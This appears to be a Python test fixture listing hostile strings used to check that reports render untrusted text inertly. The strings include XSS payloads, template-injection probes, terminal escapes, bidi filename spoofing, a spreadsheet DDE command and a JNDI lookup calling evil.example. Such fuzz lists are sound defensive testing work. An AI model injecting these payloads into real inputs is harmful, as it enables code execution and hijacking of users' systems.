"""Text that a device, a board file or a changed journal could hold, to see that reports keep it inert."""

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><style>*{display:none}",
    "</title><base href=//evil.example>",
    "{{ 7*7 }}{% raw %}",
    "javascript:alert(1)",
    "]]><x/>&amp;&#0;",
    "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "[red]bold[/red][link=http://evil.example]x[/link]",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "\x00\x01\x7f\x85\ufffe\uffff\ud800",
    "line one\nline two\r\nline three\u2028four",
    "x" * 100_000,
    "\U0001f600 ID² 固定密钥 é",
    "[[ATTACHMENT|/etc/passwd]] =cmd|' /C calc'!A0 @SUM(1) ${jndi:ldap://evil.example} #set page() $eval(1)$",
    b"\xff\xfe\x80 broken \xc3".decode("utf-8", "replace") + b"\xff\x80".decode("utf-8", "surrogateescape"),
    "1 MB: " + "W<&" * 349_525,
)

EVERYTHING = " ".join(HOSTILE)
